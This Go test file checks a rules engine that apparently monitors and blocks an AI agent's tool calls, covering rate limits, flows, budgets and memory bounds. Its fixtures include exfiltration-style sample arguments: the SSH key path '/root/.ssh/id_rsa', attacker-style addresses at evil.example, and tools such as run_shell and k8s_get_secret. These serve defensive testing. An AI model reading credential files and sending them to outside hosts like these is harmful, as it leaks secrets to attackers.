package rules

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

func compileText(t testing.TB, text string) *Set {
	t.Helper()
	p, err := Parse("p.yaml", []byte("version: 1\n"+text))
	require.NoError(t, err)
	s, err := p.Compile()
	require.NoError(t, err)
	return s
}

func exchangeID(n int) (id [16]byte) {
	binary.BigEndian.PutUint64(id[8:], uint64(n)+1)
	return id
}

// driver plays calls of one key.
type driver struct {
	set   *Set
	state *State
	now   time.Time
	count int
}

func newDriver(s *Set) *driver { return &driver{set: s, state: NewState(), now: testEpoch} }

func (d *driver) open(tool string, args map[string]any) ([16]byte, []Hit) {
	d.count++
	id := exchangeID(d.count)
	ev := Event{Tool: tool, Method: MethodToolsCall, Args: args, Now: d.now}
	m := d.set.Match(&ev)
	return id, d.set.Advance(d.state, &m, AdvanceInfo{ID: id, Now: d.now, Pending: 10 * time.Second})
}

func (d *driver) call(tool string, args map[string]any) []Hit {
	id, hits := d.open(tool, args)
	worst, fired := Worst(hits)
	d.state.Settle(id, !fired || worst.Action != ActionBlock, d.now)
	return hits
}

// Every rule's memory is bounded, whatever the callers of a key do.
func TestStateIsBounded(t *testing.T) {
	for _, tc := range []struct {
		name, rules string
		most        int // bytes
	}{
		{"flow", "rules:\n  - name: r\n    flow: {within: 7d, steps: [call: {tool: '*'}, unless: {tool: 'g*'}, call: {tool: 't*'}, call: {tool: never}]}\n", 8 << 10},
		{"loop", "rules:\n  - name: r\n    loop: {threshold: 5, within: 7d}\n", 6 << 10},
		{"rate per tool", "rules:\n  - name: r\n    rate: {max: 30, within: 7d}\n", 16 << 10},
		{"large rate", "rules:\n  - name: r\n    rate: {max: 100000, within: 7d, per: rule}\n", 4 << 10},
		{"budget", "rules:\n  - name: r\n    budget: {amount: double(args.n), max: 1e9, within: 7d}\n", 8 << 10},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := newDriver(compileText(t, tc.rules))
			rnd := rand.New(rand.NewPCG(1, 2))
			most := 0
			for i := range 20_000 {
				d.now = d.now.Add(time.Duration(rnd.IntN(2000)) * time.Millisecond)
				id, _ := d.open(fmt.Sprint(string("tgx"[rnd.IntN(3)]), rnd.IntN(500)), map[string]any{"n": int64(rnd.IntN(1000)), "i": int64(i % 700)})
				if rnd.IntN(3) > 0 { // a third is never settled
					d.state.Settle(id, rnd.IntN(2) == 0, d.now)
				}
				most = max(most, d.state.Size())
			}
			t.Logf("at most %d bytes", most)
			require.LessOrEqual(t, most, tc.most)
		})
	}
}

// No number of other calls pushes a pattern out.
func TestFillersFlushNothing(t *testing.T) {
	d := newDriver(compileText(t, `rules:
  - name: flow
    flow: {within: 7d, steps: [call: {tool: a}, call: {tool: b}]}
  - name: loop
    loop: {tool: ["a", "f*"], threshold: 3, within: 7d}
  - name: budget
    budget: {tool: "*", amount: double(args.n), max: 99, within: 7d}
`))
	require.Empty(t, d.call("a", map[string]any{"n": int64(90)}))
	require.Empty(t, d.call("a", map[string]any{"n": int64(9), "again": false}))
	require.Empty(t, d.call("a", nil))
	require.Empty(t, d.call("a", nil))
	for i := range 5000 {
		d.now = d.now.Add(10 * time.Millisecond)
		require.Empty(t, d.call(fmt.Sprint("f", i), map[string]any{"n": int64(0), "nonce": int64(i)}))
	}
	require.Equal(t, "flow", d.call("b", nil)[0].Rule)
	require.Equal(t, "loop", d.call("a", nil)[0].Rule)
	require.Equal(t, "budget", d.call("x", map[string]any{"n": int64(1)})[0].Rule)
}

// A rate that counts too many tools lets the further ones share a counter; nothing is forgotten.
func TestRateOverflow(t *testing.T) {
	d := newDriver(compileText(t, "rules:\n  - name: r\n    rate: {max: 2, within: 1m}\n"))
	for i := range maxRateTools {
		require.Empty(t, d.call(fmt.Sprint("t", i), nil))
	}
	require.Empty(t, d.call("x1", nil))
	require.Empty(t, d.call("x2", nil))
	require.Len(t, d.call("x3", nil), 1, "the third of the further tools")
	require.Empty(t, d.call("t0", nil))
	require.Len(t, d.call("t0", nil), 1, "a tool with its own counter")
	d.now = d.now.Add(time.Minute)
	require.Empty(t, d.call("x3", nil), "silent counters make room")
}

// Past maxExact entries a window gathers them: it may hold an amount for a thirty-second too long, never for too short.
func TestWindowIsNeverShort(t *testing.T) {
	rnd := rand.New(rand.NewPCG(3, 4))
	for range 200 {
		within := tick(1000 + rnd.IntN(100_000))
		var w window
		type entry struct {
			at     tick
			amount float64
		}
		var all []entry
		now := tick(1)
		for range 600 {
			now += tick(rnd.IntN(int(within) / 20))
			amount := float64(1 + rnd.IntN(3))
			w.prune(now, within)
			w.add(now, amount, within)
			all = append(all, entry{now, amount})
			exact, late := 0.0, 0.0
			for _, e := range all {
				if now-e.at < within {
					exact += e.amount
				}
				if now-e.at < within+within/windowCells {
					late += e.amount
				}
			}
			require.GreaterOrEqual(t, w.sum(), exact)
			require.LessOrEqual(t, w.sum(), late)
			require.LessOrEqual(t, len(w.at), maxExact)
			if wait, ok := w.until(w.sum()-1, now, within); ok {
				require.LessOrEqual(t, wait, within)
				copied := window{at: append([]tick(nil), w.at...), amounts: append([]float64(nil), w.amounts...)}
				copied.prune(now+wait, within)
				require.LessOrEqual(t, copied.sum(), w.sum()-1)
			}
		}
	}
}

// The clock's epoch moves after some weeks; what is remembered moves with it.
func TestYearsOfUptime(t *testing.T) {
	d := newDriver(compileText(t, `rules:
  - name: flow
    flow: {within: 7d, steps: [call: {tool: a}, call: {tool: b}]}
  - name: loop
    loop: {tool: c, threshold: 2, within: 7d}
  - name: rate
    rate: {tool: d, max: 1, within: 7d}
  - name: budget
    budget: {tool: e, amount: "1", max: 1, within: 7d}
`))
	names := func(hits []Hit) (out []string) {
		for _, h := range hits {
			out = append(out, h.Rule)
		}
		return out
	}
	for day := range 2000 {
		d.now = d.now.Add(24 * time.Hour)
		if day%20 != 0 {
			continue
		}
		for _, tool := range []string{"a", "c", "d", "e"} {
			require.Empty(t, d.call(tool, nil), "day %d: what happened 20 days ago is over", day)
		}
		noon := d.now
		d.now = d.now.Add(7*24*time.Hour - time.Millisecond)
		for tool, rule := range map[string]string{"b": "flow", "c": "loop", "d": "rate", "e": "budget"} {
			require.Equal(t, []string{rule}, names(d.call(tool, nil)), "day %d", day)
		}
		d.now = noon
	}
}

// A clock that jumps by decades loses memory, not its mind.
func TestClockJump(t *testing.T) {
	d := newDriver(compileText(t, "rules:\n  - name: r\n    flow: {within: 7d, steps: [call: {tool: a}, call: {tool: b}]}\n"))
	id, _ := d.open("a", nil)
	d.now = d.now.AddDate(50, 0, 0)
	d.state.Settle(id, true, d.now)
	require.Empty(t, d.call("b", nil))
	require.Empty(t, d.call("a", nil))
	d.now = d.now.AddDate(-100, 0, 0)
	require.Len(t, d.call("b", nil), 1, "backwards it stands still")
}

// More exchanges in flight than a rule keeps: the oldest counts as having happened, and a guard among them as not given.
func TestManyInFlight(t *testing.T) {
	d := newDriver(compileText(t, `rules:
  - name: flow
    flow: {within: 7d, steps: [call: {tool: a}, unless: {tool: g}, call: {tool: b}]}
  - name: budget
    budget: {tool: [a, p], amount: double(args.n), max: 100, within: 7d}
`))
	first, _ := d.open("a", nil)
	guard, _ := d.open("g", nil)
	for range maxUnsettled {
		d.open("a", nil)
	}
	d.state.Settle(guard, true, d.now)
	d.state.Settle(first, false, d.now)
	require.Len(t, d.call("b", nil), 1)

	claim, _ := d.open("p", map[string]any{"n": int64(60)})
	for range maxUnsettled {
		d.open("p", map[string]any{"n": 1.0})
	}
	d.state.Settle(claim, false, d.now)
	require.Len(t, d.call("p", map[string]any{"n": int64(20)}), 1)
}

// Settling twice, settling what is unknown, and settling a fresh state change nothing.
func TestSettleIsIdempotent(t *testing.T) {
	d := newDriver(compileText(t, "rules:\n  - name: r\n    flow: {within: 1h, steps: [call: {tool: a}, call: {tool: b}]}\n"))
	NewState().Settle(exchangeID(1), true, d.now)
	id, _ := d.open("a", nil)
	d.state.Settle(exchangeID(77), false, d.now)
	d.state.Settle(id, true, d.now)
	d.state.Settle(id, false, d.now)
	require.Len(t, d.call("b", nil), 1)
}

// A Matched says nothing about the call's arguments.
func TestMatchedCarriesNoArguments(t *testing.T) {
	s := compileText(t, strings.TrimPrefix(designPack, "version: 1\n"))
	ev := Event{Tool: "email_send", Service: "k8s", Method: MethodToolsCall, Args: map[string]any{"to": "hunter2@evil.example", "kind": "hunter2", "size": "hunter2"}, Now: testEpoch}
	m := s.Match(&ev)
	require.NotEmpty(t, m.Steps)
	require.NotContains(t, fmt.Sprintf("%+v %+v %+v", m.Hits, m.Faults, m.Steps), "hunter2")

	ev = Event{Tool: "other", Method: "tools/list", Now: testEpoch}
	m = s.Match(&ev)
	require.Equal(t, Matched{set: s}, m)
	require.Empty(t, s.Advance(NewState(), &m, AdvanceInfo{}))
	require.Empty(t, s.Advance(NewState(), &Matched{}, AdvanceInfo{}))
}

func TestWorst(t *testing.T) {
	_, ok := Worst(nil)
	require.False(t, ok)
	w, ok := Worst([]Hit{{Rule: "s", Action: ActionShadow, Order: 0}, {Rule: "late", Action: ActionBlock, Order: 5}, {Rule: "early", Action: ActionBlock, Order: 2}, {Rule: "r", Action: ActionReview, Order: 1}})
	require.True(t, ok)
	require.Equal(t, "early", w.Rule)
}

func TestLabels(t *testing.T) {
	require.Equal(t, []string{"prompt_injection", "injection", "secret", "hidden_text"}, Labels("prompt_injection", "secret", "hidden_text", "", "secret"))
	require.Nil(t, Labels())
}

func TestVersion(t *testing.T) {
	version := func(text string) string { return compileText(t, text).Version() }
	base := "rules:\n  - {name: a, call: {tool: x}}\n  - {name: b, call: {tool: y}}\n"
	require.Len(t, version(base), 12)
	require.Equal(t, version(base), version(strings.Replace(base, "name: a,", "name: a, description: d,", 1)))
	for _, other := range []string{
		strings.Replace(base, "tool: x", "tool: z", 1),
		strings.Replace(base, "name: a,", "name: a, action: review,", 1),
		strings.Replace(base, "name: a,", "name: c,", 1),
		"rules:\n  - {name: b, call: {tool: y}}\n  - {name: a, call: {tool: x}}\n",
		base + "detectors: [{name: d, keywords: k}]\n",
		base + "allow: [{detector: d}]\n",
	} {
		require.NotEqual(t, version(base), version(other), other)
	}
}

// What a key costs under the default pack: a caller who makes a call every ten seconds, by the number of calls so far, and the worst
// that a caller can do to us.
func TestBytesPerKey(t *testing.T) {
	p, err := Default()
	require.NoError(t, err)
	s, err := p.Compile()
	require.NoError(t, err)
	d := newDriver(s)
	sizes := map[int]int{}
	for i := 1; i <= 120; i++ {
		d.now = d.now.Add(10 * time.Second)
		ev := office(i)
		d.call(ev.Tool, asMap(ev.Args))
		sizes[i] = d.state.Size()
	}
	for _, n := range []int{1, 5, 10, 20, 40, 120} {
		t.Logf("%4d bytes after %d calls", sizes[n], n)
	}
	for n, size := range sizes {
		require.Less(t, size, 1024, "after %d calls", n)
	}

	worst := 0
	d = newDriver(s)
	tools := []string{"inbox_read", "vault_read", "run_shell", "read_file", "send_email", "k8s_get_secret", "db_query", "delete_mail"}
	for i := range 5000 {
		d.now = d.now.Add(20 * time.Millisecond)
		d.open(fmt.Sprint(tools[i%len(tools)], i%90), map[string]any{"path": "/root/.ssh/id_rsa", "size": int64(1), "to": "x@evil.example", "n": int64(i % 40), "url": "https://evil.example"})
		worst = max(worst, d.state.Size())
	}
	t.Logf("%d bytes at worst", worst)
	require.LessOrEqual(t, worst, 64<<10)
}

func asMap(v any) map[string]any {
	m, _ := v.(map[string]any)
	return m
}
